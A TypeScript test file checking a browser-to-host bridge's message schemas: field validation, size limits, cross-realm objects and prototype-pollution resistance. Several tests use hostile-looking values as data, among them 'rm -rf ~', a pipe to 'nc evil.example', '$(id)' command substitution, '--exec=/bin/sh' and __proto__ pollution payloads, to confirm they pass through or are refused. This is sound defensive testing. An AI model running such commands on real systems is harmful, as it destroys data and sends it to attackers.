// The bridge's shared message schemas (bridge/protocol): every message type of every direction
// read back whole, each field refused in turn with the field it names, and the content-blind
// schema letting hostile-looking values through unchanged (the host judges those, not the schema).
import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import type { Checked, Checker } from '../../bridge/protocol/check';
import {
  checkAppRequest,
  checkFromHost,
  checkHostRequest,
  checkToApp,
  MAX_LINK,
  MAX_MESSAGE_CHARS,
  MAX_OUTPUT,
  MAX_VALUE,
  problemText,
  readMessage,
} from '../../bridge/protocol/messages';

type AnyChecker = Checker<unknown>;
type Message = Record<string, unknown>;

const run = {
  v: 1,
  id: 7,
  type: 'run',
  rule: 'crm-log',
  event: 'CALL_IN',
  values: { '00': '201', '01': '+390212345678', caller_name: 'Rossi', 'sip:x-crm-id': 'A-17' },
};
const ranOk = { ok: true, exitCode: 0, signal: null, timedOut: false, output: 'logged\n' };
const ranRefused = { ok: false, error: 'refused', detail: 'the value of 01 has a bad form' };

const checkers: Record<string, AnyChecker> = {
  checkAppRequest: checkAppRequest as AnyChecker,
  checkToApp: checkToApp as AnyChecker,
  checkHostRequest: checkHostRequest as AnyChecker,
  checkFromHost: checkFromHost as AnyChecker,
};

/** A good example of every message type each checker knows. */
const good: Record<keyof typeof checkers, [string, Message][]> = {
  checkAppRequest: [
    ['hello', { v: 1, id: 1, type: 'hello' }],
    ['run', run],
    ['run with no values', { ...run, values: {} }],
    ['run for the TEST event', { ...run, event: 'TEST' }],
  ],
  checkToApp: [
    [
      'hello with a host',
      { v: 1, id: 1, type: 'hello', extension: '0.1.0', host: { version: '0.2.0' } },
    ],
    ['hello without a host', { v: 1, id: 1, type: 'hello', extension: '0.1.0-beta+3', host: null }],
    ['ran, the command ran', { v: 1, id: 7, type: 'ran', result: ranOk }],
    [
      'ran, ended by a signal',
      { v: 1, id: 7, type: 'ran', result: { ...ranOk, exitCode: null, signal: 'SIGTERM' } },
    ],
    ['ran, refused', { v: 1, id: 7, type: 'ran', result: ranRefused }],
    ['link', { v: 1, type: 'link', link: 'tel:+390212345678' }],
    ['dial-text', { v: 1, type: 'dial-text', text: 'call 02 1234 5678' }],
    ['host that came', { v: 1, type: 'host', host: { version: '1.2.3' } }],
    ['host that went', { v: 1, type: 'host', host: null }],
  ],
  checkHostRequest: [
    ['hello', { v: 1, id: 1, type: 'hello' }],
    ['run', run],
    ['selection', { v: 1, id: 3, type: 'selection' }],
  ],
  checkFromHost: [
    ['hello', { v: 1, id: 1, type: 'hello', version: '0.2.0' }],
    ['ran', { v: 1, id: 7, type: 'ran', result: ranOk }],
    [
      'ran, unknown rule',
      { v: 1, id: 7, type: 'ran', result: { ...ranRefused, error: 'unknown-rule' } },
    ],
    ['selection', { v: 1, id: 3, type: 'selection', text: '02 1234', detail: '' }],
    ['no selection', { v: 1, id: 3, type: 'selection', text: null, detail: 'no wl-paste' }],
    ['refused without an id', { v: 1, id: 0, type: 'refused', problem: 'the message is not JSON' }],
    ['link', { v: 1, type: 'link', link: 'voispeed:dial?number=101' }],
  ],
};

function refusal(checked: Checked<unknown>): { field: string; problem: string } {
  if (checked.ok) throw new Error(`expected a refusal, got ${JSON.stringify(checked.value)}`);
  return { field: checked.field, problem: checked.problem };
}

function valuesOf(checked: Checked<unknown>): Record<string, string> {
  if (!checked.ok) throw new Error(`refused: ${problemText(checked)}`);
  return (checked.value as { values: Record<string, string> }).values;
}

/** `count` distinct value keys of the placeholder-name form: aa, ab, … */
function manyKeys(count: number): Record<string, string> {
  const letters = 'abcdefghijklmnopqrstuvwxyz';
  const out: Record<string, string> = {};
  for (let i = 0; i < count; i++) {
    out[`${letters[Math.floor(i / 26)]}${letters[i % 26]}`] = String(i);
  }
  return out;
}

const WHOLE = `must be a whole number from 1 to ${Number.MAX_SAFE_INTEGER}`;
const EVENTS =
  'must be one of CALL_IN, CALL_FORWARD_IN, CALL_OUT, CALL_ACCEPT, CALL_CLOSE, CALL_ACTIVE, CALL_BUSY, TEST';

describe.each(Object.keys(checkers))('%s: every message type', (name) => {
  const check = checkers[name] as AnyChecker;
  it.each(good[name] ?? [])('reads a good %s back equal', (_label, message) => {
    const checked = readMessage(check, message);
    expect(checked).toEqual({ ok: true, value: message });
  });

  it('refuses v: 2, an unknown type, and a message without a type', () => {
    for (const [, message] of good[name] ?? []) {
      expect(refusal(readMessage(check, { ...message, v: 2 }))).toEqual({
        field: 'v',
        problem: 'must be 1',
      });
    }
    for (const type of ['exec', 'HELLO', '', 'toString', '__proto__', 'constructor', 5]) {
      expect(refusal(readMessage(check, { v: 1, id: 1, type }))).toEqual({
        field: 'type',
        problem: 'is not a known message type',
      });
    }
    expect(refusal(readMessage(check, { v: 1, id: 1 }))).toEqual({
      field: 'type',
      problem: 'is not a known message type',
    });
  });

  it('refuses an unknown field at the top level of every type', () => {
    for (const [, message] of good[name] ?? []) {
      expect(refusal(readMessage(check, { ...message, command: 'rm -rf ~' }))).toEqual({
        field: 'command',
        problem: 'is not a known field',
      });
    }
  });

  it('refuses a missing field of every type, naming it', () => {
    for (const [, message] of good[name] ?? []) {
      for (const field of Object.keys(message).filter((f) => f !== 'type')) {
        const { [field]: _dropped, ...rest } = message;
        expect(refusal(readMessage(check, rest))).toEqual({ field, problem: 'is missing' });
      }
    }
  });

  it('refuses what is not plain data', () => {
    const mustBeObject = { field: '', problem: 'must be an object' };
    const notPlain = { field: '', problem: 'is not plain data' };
    expect(refusal(readMessage(check, [{ v: 1, id: 1, type: 'hello' }]))).toEqual(mustBeObject);
    expect(refusal(readMessage(check, null))).toEqual(mustBeObject);
    expect(refusal(readMessage(check, 'hello'))).toEqual(mustBeObject);
    class Hello {
      v = 1;
      id = 1;
      type = 'hello';
    }
    expect(refusal(readMessage(check, new Hello()))).toEqual(mustBeObject);
    // The type only reachable through the prototype is not the message's own.
    expect(refusal(readMessage(check, { __proto__: { type: 'hello' }, v: 1, id: 1 }))).toEqual(
      mustBeObject,
    );
    const cyclic: Message = { v: 1, id: 1, type: 'hello' };
    cyclic.self = cyclic;
    expect(refusal(readMessage(check, cyclic))).toEqual(notPlain);
    expect(refusal(readMessage(check, () => ({ v: 1, id: 1, type: 'hello' })))).toEqual(notPlain);
    expect(refusal(readMessage(check, undefined))).toEqual(notPlain);
    expect(refusal(readMessage(check, { v: 1, id: 1n, type: 'hello' }))).toEqual(notPlain);
  });

  it('reads plain data made in another realm, as Firefox’s content script sees the page’s', () => {
    // Through Xray wrappers the page's objects have the page's Object.prototype, not the script's.
    const foreign = runInNewContext(`(${JSON.stringify(run)})`);
    expect(Object.getPrototypeOf(foreign)).not.toBe(Object.prototype);
    expect(readMessage(checkAppRequest, foreign)).toEqual(readMessage(checkAppRequest, run));
    const foreignClass = runInNewContext(
      `new (class Run { constructor(m) { Object.assign(this, m); } })(${JSON.stringify(run)})`,
    );
    expect(readMessage(checkAppRequest, foreignClass).ok).toBe(false);
    expect(readMessage(checkAppRequest, runInNewContext('new Date()')).ok).toBe(false);
  });

  it('refuses a message longer than MAX_MESSAGE_CHARS before reading its fields', () => {
    const long = 'x'.repeat(10_000);
    const values = Object.fromEntries(
      ['01', '02', '03', '04', '05', '06', '07'].map((k) => [k, long]),
    );
    const message = { ...run, values, type: 'no such type' };
    expect(JSON.stringify(message).length).toBeGreaterThan(MAX_MESSAGE_CHARS);
    const checked = readMessage(check, message);
    expect(refusal(checked)).toEqual({
      field: '',
      problem: `is longer than ${MAX_MESSAGE_CHARS} characters`,
    });
    expect(problemText(refusal(checked))).toBe(
      `the message is longer than ${MAX_MESSAGE_CHARS} characters`,
    );
  });
});

describe('the run request (checkAppRequest and checkHostRequest)', () => {
  const cases: [string, Message, string, string][] = [
    ['id 0', { ...run, id: 0 }, 'id', WHOLE],
    ['a negative id', { ...run, id: -1 }, 'id', WHOLE],
    ['a fractional id', { ...run, id: 1.5 }, 'id', WHOLE],
    ['an id as text', { ...run, id: '7' }, 'id', WHOLE],
    ['an id past the safe integers', { ...run, id: Number.MAX_SAFE_INTEGER + 1 }, 'id', WHOLE],
    ['v as text', { ...run, v: '1' }, 'v', 'must be 1'],
    ['a rule with a space', { ...run, rule: 'crm log' }, 'rule', 'has a bad form'],
    ['a rule with a leading -', { ...run, rule: '-crm' }, 'rule', 'has a bad form'],
    ['a rule with a leading .', { ...run, rule: '.crm' }, 'rule', 'has a bad form'],
    ['a rule with a slash', { ...run, rule: 'crm/log' }, 'rule', 'has a bad form'],
    ['a rule with a ;', { ...run, rule: 'crm;id' }, 'rule', 'has a bad form'],
    ['a rule of 65 characters', { ...run, rule: 'a'.repeat(65) }, 'rule', 'is longer than 64'],
    ['an empty rule', { ...run, rule: '' }, 'rule', 'is too short'],
    ['a rule as a number', { ...run, rule: 5 }, 'rule', 'must be text'],
    ['a rule as a function', { ...run, rule: () => 'crm-log' }, 'rule', 'must be text'],
    ['an unknown event', { ...run, event: 'CALL_RING' }, 'event', EVENTS],
    ['a lower-case event', { ...run, event: 'call_in' }, 'event', EVENTS],
    ['values as an array', { ...run, values: ['101'] }, 'values', 'must be an object'],
    ['values as null', { ...run, values: null }, 'values', 'must be an object'],
    ['values as a Map', { ...run, values: new Map([['01', '1']]) }, 'values', 'must be an object'],
    ['a value key 08', { ...run, values: { '08': 'x' } }, 'values.08', 'has a bad form'],
    ['an upper-case value key', { ...run, values: { Name: 'x' } }, 'values.Name', 'has a bad form'],
    [
      'a value key with a space',
      { ...run, values: { 'a b': 'x' } },
      'values.a b',
      'has a bad form',
    ],
    ['an empty sip: key', { ...run, values: { 'sip:': 'x' } }, 'values.sip:', 'has a bad form'],
    [
      'a key of 33 letters',
      { ...run, values: { ['a'.repeat(33)]: 'x' } },
      `values.${'a'.repeat(33)}`,
      'has a bad form',
    ],
    [
      'a value of 1025 characters',
      { ...run, values: { '01': 'x'.repeat(MAX_VALUE + 1) } },
      'values.01',
      `is longer than ${MAX_VALUE}`,
    ],
    ['a value as a number', { ...run, values: { '01': 101 } }, 'values.01', 'must be text'],
    ['a value as null', { ...run, values: { '01': null } }, 'values.01', 'must be text'],
    ['a value as an object', { ...run, values: { '01': { a: 'b' } } }, 'values.01', 'must be text'],
    ['65 values', { ...run, values: manyKeys(65) }, 'values', 'has more than 64 entries'],
  ];

  describe.each([
    ['checkAppRequest', checkAppRequest as AnyChecker],
    ['checkHostRequest', checkHostRequest as AnyChecker],
  ])('%s', (_name, check) => {
    it.each(cases)('refuses %s, naming the field', (_label, message, field, problem) => {
      expect(refusal(readMessage(check, message))).toEqual({ field, problem });
    });

    it('takes the longest rule, the longest value and the most values', () => {
      for (const message of [
        { ...run, rule: `A${'b._-9'.repeat(10)}xyz` },
        { ...run, values: { '07': 'x'.repeat(MAX_VALUE) } },
        { ...run, values: manyKeys(64) },
        { ...run, values: { [`sip:${'a'.repeat(64)}`]: 'x', [`${'z'.repeat(32)}`]: 'y' } },
      ]) {
        expect(readMessage(check, message)).toEqual({ ok: true, value: message });
      }
    });

    it('names a bad value in words', () => {
      const checked = refusal(readMessage(check, { ...run, values: { '01': 'x'.repeat(1025) } }));
      expect(problemText(checked)).toBe('values.01 is longer than 1024');
    });

    it('passes hostile values unchanged: judging them is the host’s work', () => {
      const values = {
        '00': '; rm -rf ~',
        '01': '101 | nc evil.example 9',
        '02': 'a && b & c',
        '03': '$(id)',
        '04': '`id`',
        '05': `'"\\`,
        '06': 'line one\nline two\r\n',
        '07': '*',
        caller_name: '# comment',
        dial_prefix: '-rf',
        caller_id: '--exec=/bin/sh',
        'sip:x-long': 'y'.repeat(MAX_VALUE),
      };
      const checked = readMessage(check, { ...run, values });
      expect(checked).toEqual({ ok: true, value: { ...run, values } });
      expect(valuesOf(checked)).toEqual(values);
    });

    it('holds __proto__ and constructor keys as data, polluting nothing', () => {
      const input: unknown = JSON.parse(
        '{"v":1,"id":7,"type":"run","rule":"crm-log","event":"CALL_IN",' +
          '"values":{"__proto__":"{\\"polluted\\":1}","constructor":"x"}}',
      );
      const values = valuesOf(readMessage(check, input));
      expect(Object.keys(values)).toEqual(['__proto__', 'constructor']);
      expect(Object.hasOwn(values, '__proto__')).toBe(true);
      expect(Object.getOwnPropertyDescriptor(values, '__proto__')?.value).toBe('{"polluted":1}');
      expect(Object.getOwnPropertyDescriptor(values, 'constructor')?.value).toBe('x');
      // The key did not become the object's prototype.
      expect([null, Object.prototype]).toContain(Object.getPrototypeOf(values));
      expect((values as { polluted?: unknown }).polluted).toBeUndefined();
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    });

    it('refuses a __proto__ value that is an object, and pollutes nothing', () => {
      const input: unknown = JSON.parse(
        '{"v":1,"id":7,"type":"run","rule":"crm-log","event":"CALL_IN",' +
          '"values":{"__proto__":{"polluted":"yes"}}}',
      );
      expect(refusal(readMessage(check, input))).toEqual({
        field: 'values.__proto__',
        problem: 'must be text',
      });
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
      expect(Object.prototype).not.toHaveProperty('polluted');
    });

    it('refuses a __proto__ field at the top level', () => {
      const input: unknown = JSON.parse(
        '{"v":1,"id":7,"type":"run","rule":"crm-log","event":"CALL_IN","values":{},' +
          '"__proto__":{"polluted":"yes"}}',
      );
      expect(refusal(readMessage(check, input))).toEqual({
        field: '__proto__',
        problem: 'is not a known field',
      });
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    });
  });

  it('is not a message the host or the app sends back', () => {
    expect(refusal(readMessage(checkToApp, run)).field).toBe('type');
    expect(refusal(readMessage(checkFromHost, run)).field).toBe('type');
  });

  it('the app cannot ask the host for the OS selection', () => {
    expect(refusal(readMessage(checkAppRequest, { v: 1, id: 3, type: 'selection' }))).toEqual({
      field: 'type',
      problem: 'is not a known message type',
    });
    expect(refusal(readMessage(checkHostRequest, { v: 1, id: 0, type: 'selection' })).field).toBe(
      'id',
    );
  });
});

describe('a run’s result (checkToApp and checkFromHost)', () => {
  const ran = (result: unknown) => ({ v: 1, id: 7, type: 'ran', result });
  const cases: [string, unknown, string, string][] = [
    ['an unknown field', { ...ranOk, stack: 'at x' }, 'result.stack', 'is not a known field'],
    [
      'an unknown field on a refusal',
      { ...ranRefused, exitCode: 1 },
      'result.exitCode',
      'is not a known field',
    ],
    [
      'a fractional exit code',
      { ...ranOk, exitCode: 1.5 },
      'result.exitCode',
      `must be a whole number from ${-(2 ** 31)} to ${2 ** 32}`,
    ],
    [
      'an exit code as text',
      { ...ranOk, exitCode: '0' },
      'result.exitCode',
      `must be a whole number from ${-(2 ** 31)} to ${2 ** 32}`,
    ],
    [
      'an exit code out of range',
      { ...ranOk, exitCode: 2 ** 32 + 1 },
      'result.exitCode',
      `must be a whole number from ${-(2 ** 31)} to ${2 ** 32}`,
    ],
    [
      'a missing exit code',
      { ok: true, signal: null, timedOut: false, output: '' },
      'result.exitCode',
      'is missing',
    ],
    ['a lower-case signal', { ...ranOk, signal: 'sigterm' }, 'result.signal', 'has a bad form'],
    ['timedOut as text', { ...ranOk, timedOut: 'no' }, 'result.timedOut', 'must be true or false'],
    [
      'output past MAX_OUTPUT',
      { ...ranOk, output: 'x'.repeat(MAX_OUTPUT + 1) },
      'result.output',
      `is longer than ${MAX_OUTPUT}`,
    ],
    [
      'an unknown error',
      { ...ranRefused, error: 'crashed' },
      'result.error',
      'must be one of unknown-rule, refused, failed, no-host',
    ],
    ['ok as text', { ...ranRefused, ok: 'false' }, 'result.ok', 'must be false'],
    ['a refusal marked ok', { ...ranRefused, ok: true }, 'result.error', 'is not a known field'],
    [
      'a detail past 500',
      { ...ranRefused, detail: 'x'.repeat(501) },
      'result.detail',
      'is longer than 500',
    ],
    ['an array', [ranOk], 'result', 'must be an object'],
    ['null', null, 'result', 'must be an object'],
  ];

  describe.each([
    ['checkToApp', checkToApp as AnyChecker],
    ['checkFromHost', checkFromHost as AnyChecker],
  ])('%s', (_name, check) => {
    it.each(cases)('refuses %s, naming the field', (_label, result, field, problem) => {
      expect(refusal(readMessage(check, ran(result)))).toEqual({ field, problem });
    });

    it('takes the edges of the exit code and the longest output', () => {
      for (const result of [
        { ...ranOk, exitCode: -(2 ** 31) },
        { ...ranOk, exitCode: 2 ** 32 },
        { ...ranOk, exitCode: null, signal: null, timedOut: true },
        { ...ranOk, output: 'x'.repeat(MAX_OUTPUT) },
      ]) {
        expect(readMessage(check, ran(result))).toEqual({ ok: true, value: ran(result) });
      }
    });

    it('names a nested field in words', () => {
      expect(problemText(refusal(readMessage(check, ran({ ...ranOk, exitCode: 'x' }))))).toBe(
        `result.exitCode must be a whole number from ${-(2 ** 31)} to ${2 ** 32}`,
      );
    });
  });
});

describe('checkToApp: hello, pushes and the host', () => {
  const hello = { v: 1, id: 1, type: 'hello', extension: '0.1.0', host: { version: '0.2.0' } };
  it.each([
    [
      'an unknown field in host',
      { ...hello, host: { version: '0.2.0', path: '/x' } },
      'host.path',
      'is not a known field',
    ],
    ['a host without a version', { ...hello, host: {} }, 'host.version', 'is missing'],
    ['a host as text', { ...hello, host: '0.2.0' }, 'host', 'must be an object'],
    [
      'a host version with a space',
      { ...hello, host: { version: '0.2 0' } },
      'host.version',
      'has a bad form',
    ],
    ['an empty extension version', { ...hello, extension: '' }, 'extension', 'is too short'],
    [
      'an extension version of 33',
      { ...hello, extension: '1'.repeat(33) },
      'extension',
      'is longer than 32',
    ],
    [
      'an extension version with ;',
      { ...hello, extension: '0.1;x' },
      'extension',
      'has a bad form',
    ],
    [
      'a hello without an id',
      { v: 1, type: 'hello', extension: '0.1.0', host: null },
      'id',
      'is missing',
    ],
    ['an empty link', { v: 1, type: 'link', link: '' }, 'link', 'is too short'],
    [
      'a link past MAX_LINK',
      { v: 1, type: 'link', link: 'x'.repeat(MAX_LINK + 1) },
      'link',
      `is longer than ${MAX_LINK}`,
    ],
    [
      'a link with an id',
      { v: 1, id: 1, type: 'link', link: 'tel:1' },
      'id',
      'is not a known field',
    ],
    ['an empty dial text', { v: 1, type: 'dial-text', text: '' }, 'text', 'is too short'],
    [
      'a dial text past MAX_LINK',
      { v: 1, type: 'dial-text', text: '1'.repeat(MAX_LINK + 1) },
      'text',
      `is longer than ${MAX_LINK}`,
    ],
    [
      'an unknown field in a host push',
      { v: 1, type: 'host', host: { version: '1', x: 1 } },
      'host.x',
      'is not a known field',
    ],
    ['a host push without host', { v: 1, type: 'host' }, 'host', 'is missing'],
  ])('refuses %s', (_label, message, field, problem) => {
    expect(refusal(readMessage(checkToApp, message))).toEqual({ field, problem });
  });

  it('takes a link of MAX_LINK characters', () => {
    const message = { v: 1, type: 'link', link: 'x'.repeat(MAX_LINK) };
    expect(readMessage(checkToApp, message)).toEqual({ ok: true, value: message });
  });
});

describe('checkFromHost: hello, selection and refused', () => {
  it.each([
    ['a hello with id 0', { v: 1, id: 0, type: 'hello', version: '1' }, 'id', WHOLE],
    [
      'a hello version with a slash',
      { v: 1, id: 1, type: 'hello', version: '1/2' },
      'version',
      'has a bad form',
    ],
    [
      'a selection detail past 200',
      { v: 1, id: 1, type: 'selection', text: null, detail: 'x'.repeat(201) },
      'detail',
      'is longer than 200',
    ],
    [
      'a selection past MAX_LINK',
      { v: 1, id: 1, type: 'selection', text: 'x'.repeat(MAX_LINK + 1), detail: '' },
      'text',
      `is longer than ${MAX_LINK}`,
    ],
    [
      'a selection text as a number',
      { v: 1, id: 1, type: 'selection', text: 5, detail: '' },
      'text',
      'must be text',
    ],
    [
      'a refusal with a negative id',
      { v: 1, id: -1, type: 'refused', problem: '' },
      'id',
      `must be a whole number from 0 to ${Number.MAX_SAFE_INTEGER}`,
    ],
    [
      'a problem past 500',
      { v: 1, id: 0, type: 'refused', problem: 'x'.repeat(501) },
      'problem',
      'is longer than 500',
    ],
    [
      'a hello with the app’s fields',
      { v: 1, id: 1, type: 'hello', version: '1', extension: '1' },
      'extension',
      'is not a known field',
    ],
  ])('refuses %s', (_label, message, field, problem) => {
    expect(refusal(readMessage(checkFromHost, message))).toEqual({ field, problem });
  });
});
